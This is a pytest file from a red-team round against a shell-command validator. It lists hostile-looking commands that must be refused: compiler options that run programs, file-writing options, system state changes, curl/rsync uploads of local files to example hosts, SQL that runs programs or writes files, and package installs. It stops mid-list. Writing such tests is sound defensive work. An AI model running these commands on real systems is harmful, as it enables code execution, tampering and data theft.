"""The fourth red-team round's classes (against main at 704662b, 2026-12-04), each refused by its class.

Every class here ran a program or wrote a file when the attacker tried it on a real system
(gcc ``-wrapper`` ran ``touch``; ``shuf -o`` and ``uniq IN OUT`` wrote files), or is one of
the other spellings of the same class found by reading each program's grammar. Validation
never runs anything, so the programs are stand-ins on a temporary search path. Beside each
class are the ordinary uses that must still pass, and the three false refusals of the round.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from celery_jobs_ext.errors import ImproperlyConfigured, ShellCommandNotAllowed
from celery_jobs_ext.shell import check_environment, validate_command
from celery_jobs_ext.shell.environment import checked_environment_names
from celery_jobs_ext.shell.runner import run_command
from tests.shell.helpers import bare, is_refused, make_programs

PROGRAMS = [
    "gcc", "cc", "g++", "c++", "cpp", "clang", "clang++-15", "gcc-12", "x86_64-linux-gnu-gcc-12",
    "arm-none-eabi-gcc", "tcc", "ld", "ld.bfd", "ld.gold", "lld", "as", "ar", "nm",
    "x86_64-linux-gnu-gcc-ar-12", "strip", "objcopy", "shuf", "uniq", "csplit", "split", "zip",
    "unzip", "sort", "tee", "dd", "cp", "mv", "install", "ln", "truncate", "touch", "rm", "mkdir",
    "chmod", "tar", "gzip", "xz", "zstd", "sdiff", "ptx", "mktemp", "patch", "convert", "systemctl",
    "hostnamectl", "timedatectl", "loginctl", "ip", "nmcli", "kill", "pkill", "killall", "renice",
    "sysctl", "hostname", "date", "curl", "wget", "jq", "rsync", "psql", "mysql", "journalctl",
    "make", "dpkg", "npm", "pnpm", "yarn", "pip", "pip3", "gem", "cargo", "apt-get", "apt", "apt-cache",
    "dnf", "apk", "composer", "go", "mvn", "gradle", "7z", "unrar", "cpio", "m4", "zstdcat", "dmesg",
    "logger", "identify", "magick", "modprobe", "insmod", "iptables", "ip6tables", "nft", "mount", "umount",
    "swapon", "losetup", "ifconfig", "route", "ssh-keygen", "useradd", "passwd", "setcap", "ansible",
    "ansible-playbook", "ansible-pull", "ansible-galaxy", "kubectl", "helm", "terraform", "tc", "iw",
    "ethtool",
]  # fmt: skip


@pytest.fixture(scope="module")
def search_path(tmp_path_factory: pytest.TempPathFactory) -> str:
    return str(make_programs(tmp_path_factory.mktemp("bin"), PROGRAMS))


# --- 1. compilers, preprocessors, linkers: options by an allow list ------------------------------


@pytest.mark.parametrize(
    "command",
    [
        # the round's hits: -wrapper runs a program in front of cc1 (it ran touch), -o writes
        "gcc -wrapper /usr/bin/touch,/tmp/x/pwned -fsyntax-only a.c",
        "cc -wrapper touch,pwned -fsyntax-only a.c",
        "g++ -fsyntax-only -wrapper touch,pwned a.cc",
        "gcc -o /tmp/x/pwned a.c",
        "gcc -E a.c -o /tmp/x/pwned",
        # versioned and cross names, by the shape of the name
        "gcc-12 -wrapper touch,pwned -fsyntax-only a.c",
        "x86_64-linux-gnu-gcc-12 -o pwned a.c",
        "arm-none-eabi-gcc -fplugin=/tmp/x/p.so -fsyntax-only a.c",
        "clang++-15 -fsyntax-only -Xclang -load -Xclang /tmp/x/p.so a.cc",
        "tcc -run a.c",
        # options that run programs or load code, in their spellings
        "gcc -fplugin=/tmp/x/p.so -fsyntax-only a.c",
        "gcc -fplugin-arg-x-y=z -fsyntax-only a.c",
        "clang -fpass-plugin=/tmp/x/p.so -fsyntax-only a.c",
        "gcc -B/tmp/x -fsyntax-only a.c",
        "gcc -B /tmp/x -fsyntax-only a.c",
        "gcc --prefix=/tmp/x -fsyntax-only a.c",
        "gcc -specs=/tmp/x/s -E a.c",
        "gcc --specs=/tmp/x/s -E a.c",
        "gcc -Wl,-plugin,/tmp/x/p.so a.c",
        "gcc -Xlinker -plugin -Xlinker /tmp/x/p.so a.c",
        "gcc --for-linker=-plugin a.c",
        "gcc -Wa,--version -fsyntax-only a.c",
        "gcc -Wp,-MD,/tmp/x/pwned -E a.c",
        "gcc -Xpreprocessor -MD -E a.c",
        "g++ -fmodule-mapper=|touch -fmodules-ts -fsyntax-only a.cc",
        "gcc @/tmp/x/options a.c",
        "gcc -fsyntax-only @opts",
        "clang --config=/tmp/x/c.cfg -fsyntax-only a.c",
        "clang -cc1 -load /tmp/x/p.so a.c",
        # options that write files
        "gcc -c a.c",
        "gcc -S a.c",
        "gcc a.c",
        "gcc -ofile -fsyntax-only a.c",
        "gcc --output=/tmp/x/pwned -E a.c",
        "gcc -E -MD a.c",
        "gcc -E -MMD a.c",
        "gcc -M -MF /tmp/x/pwned a.c",
        "gcc -M -MF/tmp/x/pwned a.c",
        "cpp -MD /tmp/x/pwned a.c",
        "gcc -save-temps -fsyntax-only a.c",
        "gcc -fdump-tree-all -fsyntax-only a.c",
        "gcc -fdiagnostics-format=sarif-file -fsyntax-only a.c",
        "gcc -aux-info /tmp/x/pwned -fsyntax-only a.c",
        "gcc -time=/tmp/x/pwned -fsyntax-only a.c",
        "gcc -dM -fsyntax-only a.c",
        "gcc -fstack-usage -fsyntax-only a.c",
        "gcc -fcallgraph-info -fsyntax-only a.c",
        # linkers and assemblers write a.out and load plugins
        "ld -plugin /tmp/x/p.so a.o",
        "ld.bfd -o /tmp/x/pwned a.o",
        "ld.gold --plugin /tmp/x/p.so a.o",
        "lld -flavor gnu a.o",
        "as a.s",
        "as -o /tmp/x/pwned a.s",
        # binutils: BFD plugins, @file, writing archives and objects
        "nm --plugin /tmp/x/p.so a.o",
        "nm --plug=/tmp/x/p.so a.o",
        "ar --plugin /tmp/x/p.so t lib.a",
        "x86_64-linux-gnu-gcc-ar-12 --plugin /tmp/x/p.so t lib.a",
        "ar x lib.a",
        "ar rcs /tmp/x/pwned a.o",
        "nm @/tmp/x/options",
        "strip a.out",
        "objcopy a.o /tmp/x/pwned",
    ],
)
def test_compiler_options_that_run_programs_or_write_files_are_refused(
    command: str, search_path: str
) -> None:
    assert is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("gcc -fsyntax-only -wrapper touch,pwned a.c", "gcc -fsyntax-only ..."),
        ("gcc -fsyntax-only -o pwned a.c", "gcc -fsyntax-only ..."),
        ("gcc -fsyntax-only @opts", "gcc -fsyntax-only *"),
        ("gcc -fsyntax-only -Wl,-plugin,p.so", "gcc -fsyntax-only -W*"),
        ("gcc -fsyntax-only -fplugin=p.so", "gcc -fsyntax-only -f*"),
    ],
)
def test_compiler_options_matched_by_a_pattern_wildcard_are_still_judged(
    command: str, pattern: str, search_path: str
) -> None:
    assert is_refused(command, [pattern], search_path)


@pytest.mark.parametrize(
    "command",
    [
        "gcc --version",
        "gcc -v",
        "gcc -dumpmachine",
        "gcc -dumpversion",
        "gcc -print-search-dirs",
        "gcc -print-file-name=libc.so",
        "gcc -print-prog-name=cc1",
        "gcc --help=warnings",
        "gcc -fsyntax-only a.c",
        "gcc -fsyntax-only -Wall -Wextra -Werror -Wformat=2 -std=c11 -O2 -pedantic a.c",
        "gcc -fsyntax-only -I include -Iother -isystem /usr/include -D X=1 -DY -U Z a.c",
        "gcc -fsyntax-only -include config.h -x c - ",
        "gcc -fsyntax-only -o /dev/null -fdiagnostics-color=never -fmax-errors=3 a.c",
        "g++ -fsyntax-only -std=c++20 -fno-exceptions -fconcepts -march=native a.cc",
        "gcc -E a.c",
        "gcc -E a.c -o -",
        "gcc -E -dM -x c /dev/null",
        "gcc -M a.c",
        "gcc -MM -MT obj/a.o a.c",
        "cpp -P a.c",
        "clang -fsyntax-only -Weverything a.c",
        "x86_64-linux-gnu-gcc-12 -dumpmachine",
        "ld --version",
        "ld.gold -v",
        "as --version",
        "ar t lib.a",
        "ar tv lib.a",
        "ar p lib.a a.o",
        "nm -D lib.so",
    ],
)
def test_ordinary_compiler_uses_that_write_only_standard_output_pass(command: str, search_path: str) -> None:
    assert not is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("gcc -c -o /srv/build/a.o /srv/src/a.c", "gcc -c -o /srv/build/a.o /srv/src/*.c"),
        ("gcc -O2 -o /srv/build/app /srv/src/main.c", "gcc -O2 -o /srv/build/app /srv/src/main.c"),
        ("ld -o /srv/build/app /srv/build/a.o", "ld -o /srv/build/app /srv/build/*.o"),
        ("gcc -fsyntax-only -Wall a.c", "gcc -fsyntax-only ..."),
        ("ar rcs /srv/build/lib.a /srv/build/a.o", "ar rcs /srv/build/lib.a /srv/build/*.o"),
    ],
)
def test_a_pattern_that_spells_out_a_build_allows_it(command: str, pattern: str, search_path: str) -> None:
    assert not is_refused(command, [pattern], search_path)


# --- 2. output operands and options: one table ------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        # the round's hits
        "shuf -o /tmp/x/pwned /etc/hostname",
        "uniq /etc/hostname /tmp/x/pwned",
        # the same class in other spellings and programs
        "shuf --output=/tmp/x/pwned /etc/hostname",
        "shuf --outp=/tmp/x/pwned /etc/hostname",
        "shuf -o/tmp/x/pwned /etc/hostname",
        "shuf -eo/tmp/x/pwned a b",
        "shuf -o - /etc/hostname",
        "uniq -c -f 1 /etc/hostname /tmp/x/pwned",
        "uniq --skip-fields 1 /etc/hostname /tmp/x/pwned",
        "uniq -- /etc/hostname -pwned",
        "csplit /etc/hostname 1",
        "csplit --prefix=/tmp/x/pwned /etc/hostname 1",
        "split -l 1 /etc/hostname",
        "split /etc/hostname /tmp/x/pwned",
        "zip -O /tmp/x/pwned a.zip f",
        "zip --output-file=/tmp/x/pwned a.zip f",
        "zip --output-f /tmp/x/pwned a.zip f",
        "zip /tmp/x/pwned.zip /etc/hostname",
        "zip -r a.zip d",
        "unzip a.zip",
        "unzip a.zip -d /tmp/x",
        "sort -o /tmp/x/pwned /etc/hostname",
        "sort --output=/tmp/x/pwned /etc/hostname",
        "sort -ro/tmp/x/pwned /etc/hostname",
        "sort -o - /etc/hostname",
        "tee /tmp/x/pwned",
        "tee -a /tmp/x/pwned",
        "dd if=/etc/hostname of=/tmp/x/pwned",
        "cp /etc/hostname /tmp/x/pwned",
        "cp -t /tmp/x /etc/hostname",
        "cp --target-directory=/tmp/x /etc/hostname",
        "mv /tmp/x/a /tmp/x/b",
        "install /etc/hostname /tmp/x/pwned",
        "install -d /tmp/x/pwned",
        "ln -s /etc/hostname /tmp/x/pwned",
        "ln -s /etc/hostname",
        "truncate -s 0 /tmp/x/pwned",
        "touch /tmp/x/pwned",
        "touch -d yesterday /tmp/x/pwned",
        "rm -f /tmp/x/pwned",
        "mkdir /tmp/x/pwned",
        "chmod 777 /tmp/x/pwned",
        "tar -xf a.tar",
        "tar xf a.tar",
        "tar -x -f a.tar -C /tmp/x",
        "tar --extract --file=a.tar",
        "tar -czf /tmp/x/pwned.tgz /etc/hostname",
        "tar cf /tmp/x/pwned /etc/hostname",
        "tar --create --file=/tmp/x/pwned /etc/hostname",
        "tar -c /etc/hostname",
        "tar -rf a.tar /etc/hostname",
        "tar --delete -f a.tar x",
        "tar -cf - --remove-files /srv/data",
        "gzip /tmp/x/f",
        "gzip -d /tmp/x/f.gz",
        "xz -k /tmp/x/f",
        "zstd -o /tmp/x/pwned /etc/hostname",
        "sdiff -o /tmp/x/pwned a b",
        "ptx -G /etc/hostname /tmp/x/pwned",
        "mktemp",
        "mktemp /tmp/x/pwned.XXXX",
        "patch -p1 -i fix.diff",
        "patch --dry-run -o /tmp/x/pwned f fix.diff",
        "convert in.png /tmp/x/pwned.png",
        "zstd --output-dir-flat /tmp/x f",
        "zstdcat -o /tmp/x/pwned f.zst",
        "7z x a.7z",
        "7z a /tmp/x/pwned.7z /etc/hostname",
        "unrar x a.rar",
        "cpio -i",
        "cpio -id",
        "m4 --debugfile=/tmp/x/pwned a.m4",
        "m4 -o /tmp/x/pwned a.m4",
    ],
)
def test_files_a_program_writes_are_refused_under_a_bare_name(command: str, search_path: str) -> None:
    assert is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    "command",
    [
        "sort -o /dev/stdout /etc/hostname",
        "sort -o /dev/null /etc/hostname",
        "sort -k 2 -t , -n data.csv",
        "sort -u -T /var/tmp big.txt",
        "shuf -n 3 /etc/hostname",
        "shuf -o /dev/stdout /etc/hostname",
        "uniq -c /etc/hostname",
        "uniq -f 1 /etc/hostname",
        "uniq /etc/hostname -",
        "tee",
        "tee /dev/null",
        "dd if=/dev/zero of=/dev/null bs=1M count=10",
        "zip -r - d",
        "unzip -l a.zip",
        "unzip -p a.zip f",
        "tar --list --file=x.tar",
        "tar -tvf x.tar",
        "tar tf x.tar",
        "tar -xOf x.tar etc/hostname",
        "tar -czf - d",
        "gzip -c f",
        "gzip -dc f.gz",
        "gzip -l f.gz",
        "xz -t f.xz",
        "zstd -c f",
        "sdiff a b",
        "ptx a b",
        "mktemp -u",
        "patch --dry-run -p1 -i fix.diff",
        "convert in.png -resize 50% png:-",
        "identify x.png",
        "magick identify x.png",
        "cp --help",
        "split --version",
        "zstdcat f.zst",
        "7z l a.7z",
        "unrar lt a.rar",
        "cpio -it",
        "m4 a.m4",
    ],
)
def test_ordinary_uses_that_write_only_standard_output_pass(command: str, search_path: str) -> None:
    assert not is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("sort -o /srv/out/sorted.txt /srv/in/a.txt", "sort -o /srv/out/sorted.txt /srv/in/*.txt"),
        ("tee /srv/log/app.log", "tee /srv/log/*.log"),
        ("cp /srv/in/a.csv /srv/out/", "cp /srv/in/*.csv /srv/out/"),
        ("tar -czf /srv/backup/db.tgz /srv/db", "tar -czf /srv/backup/db.tgz /srv/db"),
        ("split -l 1000 /srv/in/big.txt /srv/out/part-", "split -l 1000 /srv/in/*.txt /srv/out/part-"),
        ("unzip /srv/in/a.zip", "unzip /srv/in/*.zip"),
    ],
)
def test_a_pattern_that_spells_out_the_output_allows_it(command: str, pattern: str, search_path: str) -> None:
    assert not is_refused(command, [pattern], search_path)


def test_a_pattern_ending_in_rest_pins_no_output(search_path: str) -> None:
    assert is_refused("tee /srv/log/a.log", ["tee ..."], search_path)
    assert is_refused("sort -o /tmp/x/pwned a", ["sort ..."], search_path)


# --- 3. env names that name a file to write or a place to load from ------------------------------


NEVER_PASSED = [
    "SUNPRO_DEPENDENCIES", "DEPENDENCIES_OUTPUT", "LOCALE_ARCHIVE", "LOCALE_ARCHIVE_2_27", "TMP", "TEMP",
    "TMPDIR", "GCC_EXEC_PREFIX", "COMPILER_PATH", "LIBRARY_PATH", "CPATH", "C_INCLUDE_PATH",
    "GCC_COMPARE_DEBUG", "COLLECT_GCC", "CCC_OVERRIDE_OPTIONS", "CC_PRINT_OPTIONS", "LD_AUDIT",
    "GCONV_PATH", "NLSPATH", "LOCPATH", "MALLOC_TRACE", "MALLOC_CHECK_", "GLIBC_TUNABLES",
    "MEMUSAGE_OUTPUT", "SEGFAULT_OUTPUT_NAME", "UBSAN_OPTIONS", "ASAN_OPTIONS", "LLVM_PROFILE_FILE",
    "GCOV_PREFIX", "MAKE", "TERMCAP", "XAUTHORITY", "REQUESTS_CA_BUNDLE", "APP_CACHE", "APP_LOG",
    "FFREPORT", "DEBUGINFOD_URLS",
]  # fmt: skip


@pytest.mark.parametrize("name", NEVER_PASSED)
def test_env_names_that_name_files_or_load_places_are_never_passed(name: str) -> None:
    with pytest.raises(ShellCommandNotAllowed):
        check_environment({name: "/tmp/x/pwned"}, [name.split("_")[0] + "_*", name])


@pytest.mark.parametrize("name", ["SUNPRO_DEPENDENCIES", "DEPENDENCIES_OUTPUT", "LOCALE_ARCHIVE", "TMP"])
def test_listing_a_name_that_names_a_file_is_a_configuration_error(name: str) -> None:
    with pytest.raises(ImproperlyConfigured, match=name):
        checked_environment_names([name])


@pytest.mark.parametrize(
    "name", ["APP_MODE", "APP_TIMEOUT", "APP_LOG_LEVEL", "APP_REGION", "SOURCE_DATE_EPOCH"]
)
def test_ordinary_operator_names_still_pass(name: str) -> None:
    assert check_environment({name: "1"}, [name]) == {name: "1"}


# --- 4. service state: read-only verbs by an allow list -------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "systemctl start nginx",
        "systemctl stop nginx",
        "systemctl restart nginx",
        "systemctl enable --now x",
        "systemctl disable nginx",
        "systemctl reset-failed",
        "systemctl -p status stop nginx",
        "systemctl --prop status stop nginx",
        "systemctl --property status kill nginx",
        "systemctl status nginx stop",
        "systemctl --bogus status",
        "systemctl -Z status",
        "systemctl soft-reboot",
        "hostnamectl hostname pwned",
        "hostnamectl set-hostname pwned",
        "hostnamectl --static hostname pwned",
        "timedatectl set-time '2020-01-01 00:00'",
        "timedatectl set-ntp false",
        "timedatectl set-timezone UTC",
        "loginctl terminate-user app",
        "loginctl kill-session 3",
        "loginctl enable-linger app",
        "ip link set eth0 down",
        "ip link s eth0 down",
        "ip l set dev eth0 down",
        "ip addr add 10.0.0.1/24 dev eth0",
        "ip a a 10.0.0.1/24 dev eth0",
        "ip route del default",
        "ip r d default",
        "ip route flush table main",
        "ip neigh flush dev eth0",
        "ip -s -s neigh flush all",
        "ip xfrm state deleteall",
        "ip netns add x",
        "ip netns exec x true",
        "ip -n x link set lo down",
        "ip -force -batch /tmp/x/cmds",
        "ip -b /tmp/x/cmds",
        "ip --batch /tmp/x/cmds",
        "ip -bogus link",
        "ip tuntap add tap0 mode tap",
        "ip link property add dev eth0 altname x",
        "nmcli radio wifi off",
        "nmcli networking off",
        "nmcli connection up x",
        "nmcli c up x",
        "nmcli c delete x",
        "nmcli d disconnect eth0",
        "nmcli device wifi connect x",
        "nmcli general hostname pwned",
        "nmcli agent secret",
        "nmcli --ask c up x",
        "kill 1",
        "kill -9 1234",
        "kill -s KILL 1234",
        "kill -- -1",
        "pkill -f celery",
        "killall python3",
        "renice -n 19 -p 1234",
        "sysctl -w kernel.sysrq=1",
        "sysctl kernel.sysrq=1",
        "sysctl -p /tmp/x/conf",
        "sysctl --system",
        "sysctl --load=/tmp/x/conf",
        "hostname pwned",
        "hostname -F /tmp/x/name",
        "hostname --file /tmp/x/name",
        "date -s '2020-01-01'",
        "date --set=2020-01-01",
        "date --se 2020-01-01",
        "date --s 2020-01-01",
        "date 010101012025",
        "date -us now",
        "journalctl --vacuum-size=1",
        "journalctl --rotate",
        "dmesg -C",
        "dmesg --clear",
        "dmesg -n 1",
    ],
)
def test_commands_that_change_the_machines_state_are_refused(command: str, search_path: str) -> None:
    assert is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    "command",
    [
        "systemctl",
        "systemctl status nginx",
        "systemctl --no-pager status nginx",
        "systemctl is-active nginx",
        "systemctl is-enabled nginx",
        "systemctl is-failed nginx",
        "systemctl list-units --type=service --state=running",
        "systemctl list-timers --all",
        "systemctl show -p ActiveState --value nginx",
        "systemctl show --property=MainPID nginx",
        "systemctl cat nginx",
        "systemctl --user list-units",
        "systemctl -n 20 status nginx",
        "hostnamectl",
        "hostnamectl status",
        "hostnamectl hostname",
        "hostnamectl --json=short",
        "timedatectl",
        "timedatectl show",
        "timedatectl list-timezones",
        "loginctl list-sessions",
        "loginctl show-user app -p Linger",
        "ip a",
        "ip addr",
        "ip -br a",
        "ip -4 -br addr show dev eth0",
        "ip a sh",
        "ip link",
        "ip -s -s link show up",
        "ip route show table all",
        "ip r",
        "ip route get 1.1.1.1",
        "ip -6 route list",
        "ip neigh show",
        "ip -f inet addr show",
        "ip -n ns1 link show",
        "ip -j -p addr",
        "ip --json link",
        "ip -color=always addr",
        "ip netns list",
        "ip monitor all",
        "ip xfrm state list",
        "ip rule",
        "nmcli",
        "nmcli device status",
        "nmcli d",
        "nmcli connection show",
        "nmcli c s",
        "nmcli -t -f NAME,DEVICE connection show --active",
        "nmcli general status",
        "nmcli general hostname",
        "nmcli radio wifi",
        "nmcli networking connectivity",
        "nmcli device wifi list",
        "kill -l",
        "kill -l 9",
        "kill -0 1234",
        "kill -s 0 1234",
        "pkill -0 celery",
        "sysctl net.ipv4.ip_forward",
        "sysctl -a",
        "sysctl -n vm.swappiness",
        "hostname",
        "hostname -f",
        "hostname -I",
        "date",
        "date +%s",
        "date -u +%FT%TZ",
        "date -d yesterday +%F",
        "date --date='2 days ago' +%F",
        "date -r /etc/hostname",
        "dmesg -T",
        "dmesg --level=err",
    ],
)
def test_commands_that_only_show_state_pass(command: str, search_path: str) -> None:
    assert not is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("systemctl restart app", "systemctl restart app"),
        ("systemctl restart app-worker", "systemctl restart app-*"),
        ("ip link set eth1 up", "ip link set eth1 up"),
        ("kill -HUP 1234", "kill -HUP *"),
        ("nmcli connection up office", "nmcli connection up office"),
    ],
)
def test_a_pattern_that_spells_out_a_state_change_allows_it(
    command: str, pattern: str, search_path: str
) -> None:
    assert not is_refused(command, [pattern], search_path)


# --- 5. local files read to be sent out ------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "curl -d @/etc/hostname https://example.org/",
        "curl -d@/etc/hostname https://example.org/",
        "curl -sd@/etc/hostname https://example.org/",
        "curl --data @/etc/hostname https://example.org/",
        "curl --data-binary @/etc/hostname https://example.org/",
        "curl --data-bin @/etc/hostname https://example.org/",
        "curl --data-ascii @/etc/hostname https://example.org/",
        "curl --data-urlencode name@/etc/hostname https://example.org/",
        "curl --data-urlencode @/etc/hostname https://example.org/",
        "curl --json @/etc/hostname https://example.org/",
        "curl -F f=@/etc/hostname https://example.org/",
        "curl -F 'f=</etc/hostname' https://example.org/",
        "curl --form 'f=@\"/etc/hostname\"' https://example.org/",
        "curl --variable v@/etc/hostname --expand-data '{{v}}' https://example.org/",
        "curl --url-query q@/etc/hostname https://example.org/",
        "curl -H @/etc/hostname https://example.org/",
        "curl --proxy-header @/etc/hostname https://example.org/",
        "curl --url @/etc/hostname",
        "curl -b /etc/hostname https://example.org/",
        "curl --cookie /etc/hostname https://example.org/",
        "curl --netrc-file /etc/hostname https://example.org/",
        "curl --etag-compare /etc/hostname https://example.org/",
        "curl -K /etc/hostname https://example.org/",
        "curl --config /etc/hostname https://example.org/",
        "curl -T /etc/hostname https://example.org/",
        "wget --post-file=/etc/hostname -O - https://example.org/",
        "wget --post-f /etc/hostname -O - https://example.org/",
        "wget --body-file=/etc/hostname --method=PUT -O - https://example.org/",
        "wget -i /etc/hostname -O -",
        "wget --input-file=/etc/hostname -O -",
        "wget --load-cookies /etc/hostname -O - https://example.org/",
        "jq --rawfile f /etc/hostname -n '$f'",
        "jq --slurpfile f /etc/hostname -n '$f'",
        "jq -f /tmp/x/program.jq",
        "jq -rf /tmp/x/program.jq",
        "jq --from-file /tmp/x/program.jq",
        "jq -L /tmp/x -n 'import \"m\" as m; m::f'",
        "rsync --files-from=/etc/hostname / host:dst/",
        "rsync --exclude-from /etc/hostname src/ host:dst/",
        "rsync --include-from=/etc/hostname src/ host:dst/",
        "rsync -f 'merge /etc/hostname' src/ host:dst/",
        "rsync --filter='. /etc/hostname' src/ host:dst/",
        "rsync --password-file=/etc/hostname src/ rsync://host/mod/",
        "rsync --early-input=/etc/hostname src/ rsync://host/mod/",
        "rsync -a host:src/ /tmp/x/",
        "rsync -a src/ /tmp/x/",
        "rsync src/ /tmp/x/ --exclude host:x",
        "rsync -a src/ :dst",
        "logger -f /etc/hostname -n logs.example.org",
        "logger --file=/etc/hostname",
    ],
)
def test_local_files_read_to_be_sent_out_are_refused(command: str, search_path: str) -> None:
    assert is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    "command",
    [
        "curl -d 'a=b' https://example.org/",
        "curl -d @- https://example.org/",
        "curl --data 'a=b' https://example.org/",
        "curl --data-raw @literal https://example.org/",
        "curl --data-urlencode 'q=hello world' https://example.org/",
        "curl -F 'a=b' https://example.org/",
        "curl --cookie 'a=b' https://example.org/",
        "curl -H 'Accept: application/json' https://example.org/",
        "curl --url https://example.org/",
        "curl --proto =https https://example.org/",
        "curl --ssl https://example.org/",
        "wget -qO- https://example.org/",
        "wget --reject=jpg --spider https://example.org/",
        "jq -r .name",
        "jq -n --arg a b '$a'",
        "jq --indent 4 .",
        "rsync -avz src/ host:dst/",
        "rsync -a --exclude '*.o' --include=x src/ host:dst/",
        "rsync src/ host:dst/ --exclude tmp",
        "rsync --list-only host:src/",
        "rsync -n src/ dst/",
        "logger -t app hello",
    ],
)
def test_ordinary_uploads_and_filters_pass(command: str, search_path: str) -> None:
    assert not is_refused(command, bare(command), search_path)


def test_a_pattern_can_pin_the_file_sent(search_path: str) -> None:
    pattern = "curl -fsS --data-binary @/srv/report.json https://api.example.com/upload"
    assert not is_refused(pattern, [pattern], search_path)


# --- 6. the round's false refusals, and exact long options before abbreviations ------------------


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("tar --list --file=x.tar", "tar"),
        ("tar --list -f x.tar", "tar"),
        ("sort -o /dev/stdout /etc/hostname", "sort"),
        ("curl --proto =https -o - https://example.org/", "curl"),
        ("curl --ssl -o - https://example.org/", "curl"),
        ("wget --reject=gif --spider https://example.org/", "wget"),
        ("journalctl --cursor=s=abc -n 5", "journalctl"),
        ("make --jobs=4 all", "make"),
        ("dpkg --status bash", "dpkg"),
    ],
)
def test_a_real_option_spelled_in_full_is_not_an_abbreviation_of_a_refused_one(
    command: str, allowed: str, search_path: str
) -> None:
    assert not is_refused(command, [allowed], search_path)


def test_abbreviations_of_the_refused_option_are_still_refused(search_path: str) -> None:
    assert is_refused("tar --listed=/tmp/x/snar -cf - d", ["tar"], search_path)
    assert is_refused("tar --listed-incremental=/tmp/x/snar -cf - d", ["tar"], search_path)
    assert is_refused("journalctl --cursor-f=/tmp/x/c", ["journalctl"], search_path)


@pytest.mark.parametrize("command", ["psql -c 'select 1' shop", "mysql -e 'select 1' shop"])
def test_sql_under_a_bare_database_client_is_still_refused(command: str, search_path: str) -> None:
    """Deliberate: any SQL can change the server's data, so SQL needs a pattern."""
    assert is_refused(command, bare(command), search_path)


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("psql -d shop -c 'select 1'", "psql -d shop -c *"),
        ("psql -d shop -c 'select 10/2, now()'", "psql -d shop -c *"),
        ("psql -d shop -c 'copy (select 1) to stdout'", "psql -d shop -c *"),
        ("mysql -e 'select 1' shop", "mysql -e * shop"),
        ("mysql -e \"select 'a/b' from t\" shop", "mysql -e * shop"),
        ("psql -d shop -c 'insert into t values (1) on conflict do nothing'", "psql -d shop -c *"),
    ],
)
def test_sql_under_a_pattern_passes(command: str, pattern: str, search_path: str) -> None:
    assert not is_refused(command, [pattern], search_path)


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("psql -d shop -c '\\! touch /tmp/x/pwned'", "psql -d shop -c *"),
        ("psql -d shop -c '\\copy t to /tmp/x/pwned'", "psql -d shop -c *"),
        ("psql -d shop -c '\\o /tmp/x/pwned'", "psql -d shop -c *"),
        ("psql -d shop -c \"copy t to program 'touch /tmp/x/pwned'\"", "psql -d shop -c *"),
        ("psql -d shop -c \"copy t to/**/program 'touch x'\"", "psql -d shop -c *"),
        ("psql -d shop -c \"copy t to '/tmp/x/pwned'\"", "psql -d shop -c *"),
        ("psql -d shop -c \"select lo_export(1, '/tmp/x/pwned')\"", "psql -d shop -c *"),
        ("psql -d shop -c \"select pg_read_file('/etc/hostname')\"", "psql -d shop -c *"),
        ("mysql -e \"select 1 into outfile '/tmp/x/pwned'\" shop", "mysql -e * shop"),
        ("mysql -e \"load data local infile '/etc/hostname' into table t\" shop", "mysql -e * shop"),
        ("mysql -e \"select load_file('/etc/hostname')\" shop", "mysql -e * shop"),
        ("mysql -e \"install plugin x soname 'x.so'\" shop", "mysql -e * shop"),
        ("mysql -e 'system touch /tmp/x/pwned' shop", "mysql -e * shop"),
        # dynamic SQL and server-side code hide every keyword in a string
        (
            "psql -d shop -c \"do \\$\\$ begin execute 'cop' || 'y t to prog' || 'ram'; end \\$\\$\"",
            "psql -d shop -c *",
        ),
        ("psql -d shop -c \"select query_to_xml('cop' || 'y', true, true, '')\"", "psql -d shop -c *"),
        (
            "psql -d shop -c \"create/**/function f() returns int language sql as 'select 1'\"",
            "psql -d shop -c *",
        ),
        ("psql -d shop -c \"alter system set archive_command = 'touch x'\"", "psql -d shop -c *"),
        ("psql -d shop -c \"load 'evil'\"", "psql -d shop -c *"),
        ("psql -d shop -c \"select '--'; copy t to program 'touch x'\"", "psql -d shop -c *"),
        ("mysql -e 'prepare s from @q' shop", "mysql -e * shop"),
        ("mysql -e \"set global general_log_file = 'x.php'\" shop", "mysql -e * shop"),
    ],
)
def test_sql_that_runs_programs_or_moves_files_is_refused_under_a_pattern(
    command: str, pattern: str, search_path: str
) -> None:
    assert is_refused(command, [pattern], search_path)


# --- 7. found while fixing: package managers fetch and run a package the message names ---------


@pytest.mark.parametrize(
    "command",
    [
        "npm install evil-package",
        "npm i evil-package",
        "npm install ./some/dir",
        "npm ci --registry=https://registry.example.org/",
        "npm --registry=https://registry.example.org/ ci",
        "npm ci --script-shell=/usr/bin/touch",
        "npm test --node-options=--require=/tmp/x/hook.js",
        "npm ci --userconfig=/tmp/x/npmrc",
        "npm ci -g",
        "npm ci --prefix=/tmp/x",
        "npm test -- --evil",
        "npm run build extra-argument",
        "npm publish",
        "npm pack",
        "npm link ../x",
        "npm rebuild",
        "npm --loglevel silent install evil-package",
        "pnpm add evil-package",
        "yarn add evil-package",
        "pip install evil-package",
        "pip3 install evil-package",
        "pip install -e git+https://example.org/x.git",
        "pip install -r requirements.txt --index-url https://pypi.example.org/",
        "pip install -r requirements.txt -i https://pypi.example.org/",
        "pip install -r requirements.txt --extra-index-url=https://pypi.example.org/",
        "pip install -r requirements.txt -f /tmp/x",
        "pip install -r requirements.txt --target /tmp/x",
        "pip download evil-package",
        "pip wheel evil-package",
        "gem install evil",
        "gem build x.gemspec",
        "cargo install evil",
        "cargo build --config build.rustc-wrapper=touch",
